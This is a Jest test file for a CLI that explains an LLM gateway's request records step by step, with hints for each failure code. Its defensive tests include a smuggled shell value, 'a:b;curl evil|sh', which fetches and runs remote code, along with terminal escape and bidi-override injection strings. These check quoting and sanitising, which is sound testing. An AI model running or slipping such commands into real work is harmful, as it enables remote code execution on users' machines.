import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import type { CommandIO } from '../../command/io.ts';
import { REFUSAL_REASONS } from '../../identity/refusal.ts';
import type { RequestDocument } from '../../proxy/records/document.ts';
import { REFUSALS } from '../../proxy/refusal.ts';
import { USAGE_MISSING_REASONS } from '../../usage/record.ts';
import type { ExplainedRequest } from '../gateway/documents.ts';
import { CAUSES, STAGES, UPSTREAM_DOCS } from './causes.ts';
import { showStory } from './show.ts';
import { storyOf, type Story } from './story.ts';

const request: ExplainedRequest = {
  requestId: '0b6c0a4e-6a0e-4f0f-9a53-6f8b1d9a0001',
  startedAt: '2026-11-22T00:10:02.123Z',
  method: 'POST',
  protocol: 'HTTP/1.1',
  path: '/llm/v1/providers/openai/v1/chat/completions',
  requested: { namespace: 'team-a', provider: 'openai' },
  revision: 'ab12'.repeat(16),
  status: 200,
  forwarded: false,
  totalMs: 812.33,
};
const caller = { user: 'alice', agent: 'codex', groups: ['dev', 'ops'], groupsOmitted: 3 };
const found = { namespace: 'team-a', provider: 'openai', type: 'OpenAI', generation: 4 };
const answered: ExplainedRequest = {
  ...request,
  ...caller,
  ...found,
  operation: 'chat',
  model: 'gpt-5-mini',
  forwarded: true,
  upstreamMs: 811.02,
  firstByteMs: 70_300,
  ownMs: 0.41,
  requestBytes: 512,
  responseBytes: 2048,
};

const of = (more: Partial<ExplainedRequest>, from = answered): Story =>
  storyOf({ proxy: 'proxy-1', request: { ...from, ...more } });
const text = ({ steps }: Story): readonly string[] => steps.map((step) => `${step.mark} ${step.stage}: ${step.text}`);
const stops = ({ steps }: Story): readonly string[] =>
  steps.filter(({ mark }) => mark === 'Failed').map(({ stage }) => stage);

describe('the story of a request', () => {
  test('that came through tells each step, its figures and its cost', () => {
    const story = of({
      servedModel: 'gpt-5-mini-2025-08-07',
      tokens: { input: 1200, cached_input: 3, output: 30 },
      costUSD: '0.000065',
      costUSDByClass: { input: '0.000005', output: '0.00006' },
      unpricedTokens: { cached_input: 3 },
      guardrails: [
        { guardrail: 'team-a/pii', direction: 'Input', action: 'Mask', mode: 'Enforce', rules: { 'pii/Email': 2 } },
        { guardrail: 'team-a/words', direction: 'Output', action: 'Block', mode: 'Audit', rules: { word: 1 } },
      ],
    });
    expect(text(story)).toEqual([
      'Passed Caller: alice, with the program codex, groups dev, ops and 3 more',
      'Passed Route: the provider team-a/openai (OpenAI), generation 4, routing table ab12ab12ab12',
      'Passed Right: may invoke openai',
      'Passed Request: chat with gpt-5-mini, 512 B, HTTP/1.1',
      'Noted Guardrails: team-a/pii masked (pii/Email 2)',
      'Passed Upstream: served by gpt-5-mini-2025-08-07, took 811 ms, first byte of the answer after 1 min 10 s',
      'Noted Answer: team-a/words only looks, would have: blocked it (word 1)',
      'Passed Usage: tokens: input 1,200 (USD 0.000005), cached_input 3, output 30 (USD 0.00006), ' +
        'together USD 0.000065, no price for cached_input',
      "Passed End: 200 to the caller, after 812 ms, 0.4 ms of it the gateway's own, 2.0 KiB",
    ]);
    expect(story).toMatchObject({ isFailure: false, result: '200', hint: undefined, docs: undefined });
  });

  test.each<[ExplainedRequest['code'] & string, Partial<ExplainedRequest>, ExplainedRequest, string, string]>([
    ['Unauthenticated', { status: 401, reason: 'expired' }, request, 'Caller', 'fetch a new token'],
    ['ProviderNotFound', { status: 404 }, { ...request, ...caller }, 'Route', 'tidegate provider list'],
    [
      'Forbidden',
      { status: 403, message: '"alice" may not invoke "openai"' },
      { ...request, ...caller, ...found },
      'Right',
      'kubectl create rolebinding llm-caller -n team-a --clusterrole=llmprovider-invoker --user=alice',
    ],
    [
      'Forbidden',
      { status: 403, user: 'system:serviceaccount:team-a:chatbot' },
      { ...request, ...found },
      'Right',
      '--serviceaccount=team-a:chatbot',
    ],
    [
      'ModelNotAllowed',
      { status: 403, model: 'other' },
      { ...request, ...caller, ...found },
      'Request',
      'tidegate provider models openai -n team-a',
    ],
    [
      'ModelNotAllowed',
      { status: 403, operation: 'other' },
      { ...request, ...caller, ...found },
      'Request',
      'check the end of the URL and the model; what is allowed: tidegate provider models openai -n team-a',
    ],
    [
      'GuardrailBlocked',
      {
        status: 400,
        guardrails: [{ guardrail: 'a/b', direction: 'Input', action: 'Block', mode: 'Enforce', rules: { word: 1 } }],
      },
      { ...request, ...caller, ...found },
      'Guardrails',
      'the same text is refused again',
    ],
    [
      'GuardrailBlocked',
      { status: 200, guardrails: [{ guardrail: 'a/b', direction: 'Output', action: 'Block', mode: 'Enforce' }] },
      answered,
      'Answer',
      'the same text is refused again',
    ],
    [
      'GuardrailUnavailable',
      {
        status: 503,
        guardrails: [{ guardrail: 'a/b', direction: 'Input', action: 'Failed', mode: 'Enforce', reason: 'Timeout' }],
      },
      { ...request, ...caller, ...found },
      'Guardrails',
      'the judge of a/b answers again',
    ],
    [
      'GuardrailUnavailable',
      {
        status: 200,
        guardrails: [{ guardrail: 'a/b', direction: 'Output', action: 'Failed', mode: 'Enforce', reason: 'Timeout' }],
      },
      answered,
      'Answer',
      'the judge of a/b answers again',
    ],
    [
      'GuardrailUnavailable',
      { status: 503 },
      { ...request, ...caller, ...found },
      'Guardrails',
      'tidegate provider get openai -n team-a; in a cluster also kubectl describe llmprovider openai -n team-a',
    ],
    ['UpstreamTimeout', { status: 504 }, answered, 'Upstream', 'tidegate provider test openai -n team-a'],
    ['Draining', { status: 503 }, request, 'Route', 'another proxy takes it'],
    ['Draining', { status: 200 }, answered, 'End', 'another proxy takes it'],
    ['IdentityUnavailable', { status: 503 }, request, 'Caller', '/readyz'],
    ['IdentityUnavailable', { status: 503 }, { ...request, ...caller, ...found }, 'Right', '/readyz'],
    ['ClientDisconnected', { status: 499 }, answered, 'End', 'timeouts of the caller'],
  ])('%s %j stops where it did, and says what to do', (code, more, from, stage, hint) => {
    const story = of({ ...more, code }, from);
    expect(stops(story)).toEqual([stage]);
    expect(story.hint).toContain(hint);
    expect(story).toMatchObject({ isFailure: true, result: `${String(story.result.split(' ')[0])} ${code}` });
    expect(story.steps.at(-1)?.stage).toBe('End');
  });

  test('tells the words of the gateway where the record has them, and the reason of a 401', () => {
    expect(
      text(of({ status: 503, code: 'CredentialsUnavailable', message: 'There is no Secret "x".' }, request)),
    ).toContain('Failed Upstream: There is no Secret "x".');
    expect(text(of({ status: 401, code: 'Unauthenticated', reason: 'expired' }, request))[0]).toBe(
      'Failed Caller: the caller is not known (expired)',
    );
  });

  test('says whose answer it is when the provider refuses', () => {
    const story = of({ status: 429 });
    expect(text(story)).toContain(
      'Failed Upstream: it answered with 429 itself, took 811 ms, first byte of the answer after 1 min 10 s',
    );
    expect(story.hint).toContain('rate');
    expect(of({ status: 401 }).hint).toContain('tidegate provider test openai -n team-a');
  });

  test('knows no step that is not told: least of all can be had of a proxy of another version', () => {
    const bare = storyOf({ proxy: 'p', request: { requestId: 'id', status: 418, code: 'NeverHeardOf' } });
    expect(text(bare)).toEqual([
      'Skipped Caller: nobody was asked who they are',
      "Passed Route: the gateway's own",
      'Failed End: 418 to the caller',
    ]);
    expect(bare.hint).toBeUndefined();
  });

  test('a call that a guardrail could not judge was stopped, not blocked by a rule', () => {
    const guardrail = { guardrail: 'a/b', direction: 'Input', action: 'Block', mode: 'Enforce', reason: 'Unreachable' };
    expect(text(of({ guardrails: [guardrail] }))).toContain('Noted Guardrails: a/b stopped it (Unreachable)');
  });

  test.each(USAGE_MISSING_REASONS)('says why there is no usage: %s', (usageMissing) => {
    const usage = of({ usageMissing }).steps.find(({ stage }) => stage === 'Usage');
    expect(usage?.mark).toBe('Noted');
    expect(usage?.text).not.toContain(usageMissing);
  });
});

test('every field that the gateway tells is known here', () => {
  // Whether there is one that is not, the compiler finds out.
  const known = (field: keyof RequestDocument): keyof ExplainedRequest => field;
  expect(known('status')).toBe('status');
});

describe('every code', () => {
  const codes = [...Object.keys(REFUSALS), 'ClientDisconnected', 'UpstreamFailed'];

  test.each(codes)('%s has a cause', (code) => {
    const cause = CAUSES[code];
    expect(STAGES).toContain(cause?.stage);
    expect(of({ status: 400, code }).hint?.length).toBeGreaterThan(10);
  });

  test('that has a cause is one of the gateway', () => {
    expect(Object.keys(CAUSES).filter((code) => !codes.includes(code))).toEqual([]);
  });

  test.each(REFUSAL_REASONS)('a 401 for the reason %s has its own hint', (reason) => {
    const hints = REFUSAL_REASONS.map(
      (each) => of({ status: 401, code: 'Unauthenticated', reason: each }, request).hint,
    );
    const own = of({ status: 401, code: 'Unauthenticated', reason }, request).hint;
    expect(hints.filter((hint) => hint === own)).toHaveLength(1);
  });

  test.each([...new Set([...Object.values(CAUSES).map(({ docs }) => docs), UPSTREAM_DOCS])])('%s is there', (link) => {
    const [file = '', anchor] = link.split('#');
    expect(existsSync(file)).toBe(true);
    const headings = [...readFileSync(file, 'utf8').matchAll(/^#+ (.*)$/gm)].map(([, heading = '']) =>
      heading
        .toLowerCase()
        .replaceAll(/[^\w -]/g, '')
        .replaceAll(' ', '-'),
    );
    if (anchor !== undefined) expect(headings).toContain(anchor);
  });
});

describe('on the screen', () => {
  const shown = (story: Story, columns?: number, env: Record<string, string> = {}): string => {
    let out = '';
    const stdout = { write: (part: string) => (out += part), ...(columns !== undefined && { isTTY: true, columns }) };
    const io: CommandIO = { stdout, stderr: { write: () => true }, env, signal: new AbortController().signal };
    showStory(io, story);
    return out;
  };

  test('are status, steps under each other, and what to do', () => {
    expect(
      shown(of({ status: 403, code: 'ModelNotAllowed', model: 'other' }, { ...request, ...caller, ...found })),
    ).toBe(
      `403 ModelNotAllowed  POST /llm/v1/providers/openai/v1/chat/completions ${request.requestId}
at 2026-11-22T00:10:02.123Z, by the proxy proxy-1

ok    Caller      alice, with the program codex, groups dev, ops and 3 more
ok    Route       the provider team-a/openai (OpenAI), generation 4, routing table ab12ab12ab12
ok    Right       may invoke openai
FAIL  Request     other, HTTP/1.1: the model is not on the allowlist
note  End         403 to the caller, after 812 ms

hint: what is allowed: tidegate provider models openai -n team-a
see:  docs/callers.md#answers
`,
    );
  });

  test('have colour on a terminal only, and not where it is not wanted', () => {
    expect(shown(of({}), 80)).toContain('\u001b[32m');
    expect(shown(of({}), 80, { NO_COLOR: '1' })).not.toContain('\u001b');
    expect(shown(of({}))).not.toContain('\u001b');
  });

  test('steps stay in their column on a narrow terminal', () => {
    const lines = shown(of({}), 60, { NO_COLOR: '1' }).split('\n').slice(3);
    expect(lines.every((line) => line.length <= 60)).toBe(true);
    expect(lines.some((line) => line.startsWith(' '.repeat(18)))).toBe(true);
  });

  test('nothing that a caller chose reaches the terminal as a control sequence', () => {
    const evil = 'x\u001b]0;title\u0007\u009b2J\ny';
    const out = shown(of({ user: evil, model: evil, path: evil, agent: evil, message: evil, code: 'Forbidden' }));
    // eslint-disable-next-line no-control-regex -- they are what is looked for
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(out).not.toContain('\ny');
  });

  test('nor does what a gateway calls a failure, or a character that turns the line around', () => {
    const out = shown(of({ status: 418, code: 'Teapot\u001b]0;title\u0007\u009b2J', model: 'gpt\u202e5-mini\u2066' }));
    expect(out).toMatch(/^418 Teapot \]0;title 2J  POST /);
    expect(out).toContain('gpt 5-mini');
    expect(out).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });
});

test.each(['constructor', 'toString', '__proto__', 'hasOwnProperty'])('%s is a word like any other', (word) => {
  const { steps, hint } = of({ status: 418, code: word }, request);
  expect(hint).toBeUndefined();
  expect(steps.at(-1)).toMatchObject({ stage: 'End', mark: 'Failed' });
  expect(of({ status: 401, code: 'Unauthenticated', reason: word }, request).hint).toBe('fetch a new token');
  const shown = text(
    of({
      usageMissing: word,
      tokens: JSON.parse(`{"${word}":3}`) as Record<string, number>,
      costUSDByClass: {},
      guardrails: [{ guardrail: 'a/b', direction: 'Input', action: word, mode: 'Enforce' }],
    }),
  ).join('\n');
  expect(shown).toContain(`tokens: ${word} 3, missing: ${word}`);
  expect(shown).toContain(`a/b ${word}`);
});

test('a name in a hint is one word of the shell', () => {
  const { hint } = of({ status: 403, code: 'Forbidden', user: 'system:serviceaccount:a:b;curl evil|sh' });
  expect(hint).toContain("--serviceaccount='a:b;curl evil|sh'");
});
